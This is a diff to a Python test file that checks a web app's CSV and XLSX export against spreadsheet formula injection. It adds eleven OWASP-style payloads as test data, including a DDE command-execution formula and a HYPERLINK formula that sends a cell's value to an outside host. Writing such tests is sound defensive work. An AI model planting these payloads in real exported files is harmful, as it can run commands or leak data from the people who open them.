@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+from collections.abc import Callable
 from io import BytesIO, StringIO
 from xml.etree import ElementTree as ET
 from zipfile import ZipFile
@@ -13,8 +14,42 @@ from hypothesis import strategies as st
 
 from web.spreadsheets import BOM, FORMULA, MAIN, PARTS, XLSX, cell, csv_file, xlsx_file
 
+FORMULAS = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://example.org/?"&A1,"more")',
+    "\uff1d1+1",
+    '","=1+1',
+)
+"""Ways to begin a cell so that some spreadsheet works it out (OWASP, CSV injection)."""
+NEGATIVE = (-3, -0.5)
+
 
 @pytest.mark.promise(36)
+def test_eleven_formulas_are_words_in_both_files_and_negative_numbers_stay_numbers(
+    reached: Callable[[str], None],
+) -> None:
+    text = csv_file("results", ["Learner"], [[each] for each in (*FORMULAS, *NEGATIVE)]).content.decode()
+    _, *cells = [row[0] for row in csv.reader(StringIO(text.removeprefix(BOM), newline=""))]
+    worked_out = [each for each in cells[: len(FORMULAS)] if each.startswith(FORMULA)]
+    in_workbook = [kind for row in sheet(*[[each] for each in (*FORMULAS, *NEGATIVE)])[1:] for kind, _ in row]
+    harmless = len(FORMULAS) - len(worked_out)
+    reached(
+        f"{harmless} of {len(FORMULAS)} are words in CSV, {in_workbook.count('text')} in XLSX; {cells[-2:]} numbers"
+    )
+    assert len(set(FORMULAS)) == 11
+    assert worked_out == []
+    assert [each.removeprefix("'") for each in cells] == [*FORMULAS, *map(str, NEGATIVE)]
+    assert cells[-2:] == [str(each) for each in NEGATIVE]
+    assert in_workbook == ["text"] * len(FORMULAS) + ["number"] * len(NEGATIVE)
+
+
 @pytest.mark.parametrize(
     ("value", "expected"),
     [
@@ -28,6 +63,8 @@ from web.spreadsheets import BOM, FORMULA, MAIN, PARTS, XLSX, cell, csv_file, xl
         ("+1", "'+1"),
         ("@SUM(A1)", "'@SUM(A1)"),
         ("\t=1", "'\t=1"),
+        ("\n=1", "'\n=1"),
+        ("\uff1d1", "'\uff1d1"),
         ("a=1", "a=1"),
     ],
 )
@@ -35,7 +72,6 @@ def test_no_cell_is_a_formula(value: object, expected: str) -> None:
     assert cell(value) == expected
 
 
-@pytest.mark.promise(36)
 @given(st.text())
 def test_no_text_at_all_is_a_formula(text: str) -> None:
     assert not cell(text).startswith(FORMULA)
